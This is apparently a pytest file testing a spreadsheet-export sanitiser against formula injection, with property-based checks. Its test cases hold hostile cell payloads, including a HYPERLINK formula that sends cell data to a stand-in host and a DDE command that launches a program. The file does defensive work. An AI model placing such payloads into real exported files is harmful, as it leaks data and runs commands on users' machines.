"""No cell of an exported table runs in a spreadsheet."""

import datetime

import pytest
from hypothesis import given
from hypothesis import strategies as st

from portal.spreadsheets import FORMULA_SIGNS, safe_cell, safe_row


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://wexmere.example/?"&A1)',
        "+447700900123",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1,1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\u200b=1",
        "\ufeff=1",
        "＝1+1",
        "＋1+1",
        "－1+1",
        "＠SUM(1)",
    ],
)
def test_what_a_spreadsheet_would_run_is_shown_as_text(cell):
    assert safe_cell(cell) == f"'{cell}"


@pytest.mark.parametrize("cell", ["Nobody rang.", "ہم نے کہا", "a=b", "5", "", 5, -5, None, True])
def test_everything_else_stays_as_it_is(cell):
    assert safe_cell(cell) == cell


def test_dates_stay_dates():
    day = datetime.date(2026, 3, 2)
    assert safe_row([day, "=1"]) == [day, "'=1"]


@given(st.text())
def test_no_text_begins_like_a_formula(cell):
    safe = safe_cell(cell)
    assert not safe.strip().startswith(FORMULA_SIGNS)
    assert safe_cell(safe) == safe
